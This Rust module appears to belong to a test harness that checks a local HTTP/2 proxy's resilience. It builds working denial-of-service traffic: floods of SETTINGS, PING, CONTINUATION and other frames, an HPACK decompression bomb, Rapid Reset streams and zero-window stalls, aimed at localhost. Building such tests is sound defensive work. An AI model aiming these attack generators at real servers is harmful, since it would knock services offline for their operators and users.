//! Hostile HTTP/2, frame by frame: floods of useful-looking frames, bombs for HPACK, resets, closed windows.
//!
//! All attacks speak in clear text with prior knowledge.

use std::time::Duration;

use bytes::Bytes;

use super::Attack;

/// What a client says first.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The type of a frame.
#[allow(missing_docs, reason = "RFC 9113, section 6, says what each is")]
pub mod kind {
    pub const DATA: u8 = 0;
    pub const HEADERS: u8 = 1;
    pub const PRIORITY: u8 = 2;
    pub const RST_STREAM: u8 = 3;
    pub const SETTINGS: u8 = 4;
    pub const PING: u8 = 6;
    pub const GOAWAY: u8 = 7;
    pub const WINDOW_UPDATE: u8 = 8;
    pub const CONTINUATION: u8 = 9;
    /// No standard has it.
    pub const UNKNOWN: u8 = 0xfe;
}

/// The flag that a HEADERS or DATA frame is the stream's last.
pub const END_STREAM: u8 = 1;
/// The flag that a HEADERS or CONTINUATION frame is the head's last.
pub const END_HEADERS: u8 = 4;

/// Frames that are written in one piece by a flood.
const AT_ONCE: usize = 512;

/// One frame.
#[must_use]
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A SETTINGS frame with these identifiers and values.
#[must_use]
pub fn settings(values: &[(u16, u32)]) -> Vec<u8> {
    let payload = values.iter().flat_map(|(name, value)| {
        let (name, value) = (name.to_be_bytes(), value.to_be_bytes());
        name.into_iter().chain(value)
    });
    frame(kind::SETTINGS, 0, 0, &payload.collect::<Vec<_>>())
}

/// The preface and settings that a client begins with.
#[must_use]
pub fn hello() -> Vec<u8> {
    [PREFACE, &settings(&[])].concat()
}

/// A literal field in HPACK that is not indexed. Name and value are shorter than 127 bytes.
#[must_use]
pub fn literal(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| {
        let length = u8::try_from(text.len()).unwrap();
        assert!(length < 127, "{text} is too long for this encoder");
        [&[length], text.as_bytes()].concat()
    };
    [vec![0], text(name), text(value)].concat()
}

/// The head of `POST /request_charge` in HPACK, followed by `more`.
#[must_use]
pub fn block(more: &[u8]) -> Vec<u8> {
    // `:method: POST` and `:scheme: http` by number; `:path` and `:authority` by the number of their names.
    let mut block = vec![0x83, 0x86, 0x04, 15];
    block.extend(b"/request_charge");
    block.extend([0x01, 9]);
    block.extend(b"localhost");
    block.extend(more);
    block
}

/// A whole charge without a body, which the proxy answers with 400.
#[must_use]
pub fn charge(stream: u32) -> Vec<u8> {
    frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block(&[]))
}

/// A whole charge with a body.
#[must_use]
pub fn charge_with_body(stream: u32, body: &str) -> Vec<u8> {
    let head = frame(kind::HEADERS, END_HEADERS, stream, &block(&[]));
    [head, frame(kind::DATA, END_STREAM, stream, body.as_bytes())].concat()
}

/// A reset of this stream.
#[must_use]
pub fn reset(stream: u32) -> Vec<u8> {
    frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes())
}

/// This frame again and again.
#[must_use]
pub fn flood(frame: &[u8], pause: Duration) -> Attack {
    Attack::new(hello())
        .repeating(frame.repeat(AT_ONCE), pause)
        .counted(1, AT_ONCE as u64)
}

/// SETTINGS without values, each of which asks for an acknowledgement.
#[must_use]
pub fn settings_flood(pause: Duration) -> Attack {
    flood(&settings(&[]), pause)
}

/// PINGs, each of which asks for an answer.
#[must_use]
pub fn ping_flood(pause: Duration) -> Attack {
    flood(&frame(kind::PING, 0, 0, &[7; 8]), pause)
}

/// PRIORITY frames about a stream that does not exist.
#[must_use]
pub fn priority_flood(pause: Duration) -> Attack {
    flood(&frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 0, 16]), pause)
}

/// Frames that widen the connection's window, by one byte each.
#[must_use]
pub fn window_update_flood(pause: Duration) -> Attack {
    flood(&frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]), pause)
}

/// Frames of a type that no standard has.
#[must_use]
pub fn unknown_flood(pause: Duration) -> Attack {
    flood(&frame(kind::UNKNOWN, 0, 0, &[]), pause)
}

/// Empty DATA frames on one stream that stays open.
#[must_use]
pub fn empty_data_flood(pause: Duration) -> Attack {
    let open = frame(kind::HEADERS, END_HEADERS, 1, &block(&[]));
    Attack::new([hello(), open].concat())
        .repeating(frame(kind::DATA, 0, 1, &[]).repeat(AT_ONCE), pause)
        .counted(2, AT_ONCE as u64)
}

/// A head that goes on in CONTINUATION frames of this many bytes each, without end.
#[must_use]
pub fn continuation_flood(size: usize, pause: Duration) -> Attack {
    let open = frame(kind::HEADERS, END_STREAM, 1, &block(&[]));
    let field = literal("x", "y");
    let piece: Vec<u8> = field.iter().copied().cycle().take(size).collect();
    let piece = frame(kind::CONTINUATION, 0, 1, &piece).repeat(64);
    Attack::new([hello(), open].concat())
        .repeating(piece, pause)
        .counted(2, 64)
}

/// Charges whose heads name one large field of HPACK's table again and again: a byte each, 4 kB when decoded.
///
/// The first stream puts the field into the table; each of the others refers to it `references` times.
#[must_use]
pub fn hpack_bomb(references: usize, pause: Duration) -> Attack {
    // With incremental indexing, a new name: 0x40, then name and value; the value's length is 127 + 3,873 = 4,000.
    let mut large = vec![0x40, 1, b'x', 0x7f, 0xa1, 0x1e];
    large.extend([b'a'; 4000]);
    let first = frame(kind::HEADERS, END_HEADERS | END_STREAM, 1, &block(&large));
    // The newest entry of the dynamic table has the number 62, and an indexed field is 0x80 and its number.
    let bomb = block(&vec![0x80 + 62; references]);
    streams(
        Attack::new([hello(), first].concat()),
        pause,
        move |stream| frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &bomb),
    )
}

/// Charges that are reset as soon as they are sent.
#[must_use]
pub fn rapid_reset(pause: Duration) -> Attack {
    streams(Attack::new(hello()), pause, |stream| {
        [
            charge_with_body(stream, r#"{"power_kw": 1, "energy_kwh": 1}"#),
            reset(stream),
        ]
        .concat()
    })
}

/// So many charges, whose answers can't be sent because every window is 0.
#[must_use]
pub fn closed_window(count: u32) -> Attack {
    const INITIAL_WINDOW_SIZE: u16 = 4;
    let mut opening = [PREFACE, &settings(&[(INITIAL_WINDOW_SIZE, 0)])].concat();
    for number in 0..count {
        let body = r#"{"power_kw": 1, "energy_kwh": 1}"#;
        opening.extend(charge_with_body(2 * number + 1, body));
    }
    Attack::new(opening).counted(u64::from(count), 1)
}

/// So many charges on one connection whose bodies never come.
#[must_use]
pub fn unfinished_bodies(count: u32) -> Attack {
    let mut opening = hello();
    for number in 0..count {
        opening.extend(frame(
            kind::HEADERS,
            END_HEADERS,
            2 * number + 1,
            &block(&[]),
        ));
    }
    Attack::new(opening).counted(u64::from(count), 1)
}

/// Goes on with eight streams a piece, from stream 3 on, until the numbers of streams end.
fn streams(
    attack: Attack,
    pause: Duration,
    each: impl Fn(u32) -> Vec<u8> + Send + Sync + 'static,
) -> Attack {
    const A_PIECE: u32 = 8;
    let pieces = move |number: u64| {
        let first = u32::try_from(number).ok()?.checked_mul(2 * A_PIECE)?;
        let first = first.checked_add(3).filter(|first| *first < 1 << 30)?;
        let frames = (0..A_PIECE).flat_map(|at| each(first + 2 * at));
        Some(Bytes::from(frames.collect::<Vec<_>>()))
    };
    attack.then(pause, pieces).counted(1, u64::from(A_PIECE))
}

/// Finds the frames in received bytes, however they were cut into reads.
#[derive(Debug, Default)]
pub struct Frames {
    received: Vec<u8>,
}

impl Frames {
    /// Takes more bytes.
    pub fn push(&mut self, bytes: &[u8]) {
        self.received.extend_from_slice(bytes);
    }
}

impl Iterator for Frames {
    /// A whole frame: its type, flags, stream and payload.
    type Item = (u8, u8, u32, Vec<u8>);

    /// None if no more is whole yet.
    fn next(&mut self) -> Option<Self::Item> {
        let head: [u8; 9] = self.received.get(..9)?.try_into().ok()?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let end = 9 + usize::try_from(length).ok()?;
        let payload = self.received.get(9..end)?.to_vec();
        self.received.drain(..end);
        let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]);
        Some((head[3], head[4], stream & 0x7fff_ffff, payload))
    }
}
